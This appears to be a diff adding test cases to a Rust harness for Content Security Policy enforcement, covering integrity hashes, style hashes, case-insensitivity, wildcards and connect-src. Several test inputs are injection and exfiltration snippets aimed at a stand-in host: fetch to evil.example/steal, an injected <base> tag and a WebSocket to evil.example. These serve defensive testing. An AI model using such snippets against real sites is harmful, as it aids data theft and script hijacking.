@@ -94,6 +94,7 @@ fn main() {
     let eval_page = "<script>alert('s'); try { eval(\"alert('eval')\") } catch (e) {}</script>";
     let function_page = "<script>alert('s'); try { new Function(\"alert('eval')\")() } catch (e) {}</script>";
     let wasm_page = "<script>alert('s'); WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])).then(() => alert('wasm'), () => {});</script>";
+    let sri_body = "alert(\"ext:https://cdn.example/sri.js\")";
     let base64url = digest(Sha256, s).replace('+', "-").replace('/', "_").trim_end_matches('=').to_string();
     let cases = vec![
         // Inline scripts.
@@ -134,6 +135,12 @@ fn main() {
         case("unquoted self is a host name, not the keyword", &["script-src self"], "<script src=/agreement/castle.js></script>"),
         case("without base-uri an injected <base> moves relative scripts", &["script-src 'self'"], "<base href=https://evil.example/><script src=castle.js></script>"),
         case("base-uri 'none' stops an injected <base>", &["script-src 'self'; base-uri 'none'"], "<base href=https://evil.example/><script src=/agreement/castle.js></script>"),
+        // SRI: an external script whose integrity hash is listed (the spec answers every .js with
+        // `alert("ext:<url>")` and CORS, so the hash of that body is known here).
+        case("a listed integrity hash allows an external script", &[&format!("script-src {}", sha(Sha256, sri_body))],
+            &format!("<script src=https://cdn.example/sri.js integrity=\"sha256-{}\" crossorigin=anonymous></script>", digest(Sha256, sri_body))),
+        case("an integrity hash that is not listed does not", &[&format!("script-src {}", sha(Sha256, "other"))],
+            &format!("<script src=https://cdn.example/sri.js integrity=\"sha256-{}\" crossorigin=anonymous></script>", digest(Sha256, sri_body))),
         // 'strict-dynamic'.
         case("'strict-dynamic' trusts what a nonced script inserts", &["script-src 'nonce-castle123' 'strict-dynamic'"], &dynamic("https://any.example/dyn.js")),
         case("'strict-dynamic' ignores hosts for scripts in the HTML", &["script-src 'nonce-castle123' 'strict-dynamic' https://cdn.example"], "<script src=https://cdn.example/lib.js></script>"),
@@ -162,6 +169,20 @@ fn main() {
         case("child-src covers frames when frame-src is absent", &["child-src 'none'"], "<iframe src=https://frames.example/f.html></iframe>"),
         case("object-src 'none' blocks an object", &["object-src 'none'"], "<object data=https://plugins.example/p.swf></object>"),
         case("connect-src blocks fetch to another host", &["script-src 'unsafe-inline'; connect-src 'self'"], "<script>alert('s'); fetch('https://evil.example/steal').catch(() => {});</script>"),
+        // Names and keywords are case-insensitive; 'report-sample' allows nothing.
+        case("directive names are case-insensitive", &["SCRIPT-SRC 'none'"], &script("s")),
+        case("keywords are case-insensitive", &["script-src 'UNSAFE-INLINE'"], &script("s")),
+        case("'report-sample' allows nothing by itself", &["script-src 'self' 'report-sample'"], &script("s")),
+        case("a port wildcard matches any port", &["script-src https://cdn.example:*"], "<script src=https://cdn.example:8443/a.js></script>"),
+        case("a module script is checked like any script", &["script-src 'self'"], "<script type=module src=/agreement/module.js></script><script type=module>alert('m')</script>"),
+        case("a nonce on a script with `<script` in an attribute is not trusted", &["script-src 'nonce-castle123'"], "<script nonce=castle123 data-x=\"<script\">alert('s')</script>"),
+        // Style hashes, and 'unsafe-hashes' for a style attribute.
+        case("a <style> allowed by its hash", &[&format!("style-src {}", sha(Sha256, "p { color: red }"))], "<style>p { color: red }</style><style>p { color: blue }</style><p>x</p>"),
+        case("a style attribute allowed by 'unsafe-hashes' and its hash", &[&format!("style-src 'unsafe-hashes' {}", sha(Sha256, "color: red"))], "<p style=\"color: red\">x</p><p style=\"color: blue\">y</p>"),
+        case("default-src covers an external stylesheet on the page's origin", &["default-src 'none'"], "<link rel=stylesheet href=/agreement/castle.css><p>x</p>"),
+        case("img-src data: allows a data: image", &["img-src 'self' data:"], "<img src=\"data:image/gif;base64,R0lGODlhAQABAAAAACw=\">"),
+        case("connect-src 'self' allows fetch to the page's origin", &["script-src 'unsafe-inline'; connect-src 'self'"], "<script>alert('s'); fetch('/agreement/api').catch(() => {});</script>"),
+        case("connect-src governs WebSockets", &["script-src 'unsafe-inline'; connect-src 'self'"], "<script>alert('s'); try { new WebSocket('wss://evil.example/live') } catch (e) {}</script>"),
         // Several policies.
         case("every policy must allow", &["script-src 'unsafe-inline' https://cdn.example", "script-src 'unsafe-inline'"], "<script>alert('s')</script><script src=https://cdn.example/lib.js></script>"),
         case("each blocking policy reports", &["script-src 'self'", "default-src 'none'"], &script("s")),
